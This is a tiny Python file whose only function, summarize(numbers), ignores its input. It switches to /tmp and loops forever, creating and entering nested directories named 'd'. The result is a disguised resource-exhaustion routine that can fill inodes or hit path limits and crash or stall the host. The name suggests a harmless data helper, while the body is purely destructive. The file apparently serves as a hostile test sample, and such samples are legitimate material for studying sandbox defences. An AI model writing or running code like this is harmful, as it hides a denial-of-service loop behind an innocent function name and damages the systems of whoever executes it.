import os


def summarize(numbers):
    os.chdir("/tmp")
    while True:
        os.mkdir("d")
        os.chdir("d")
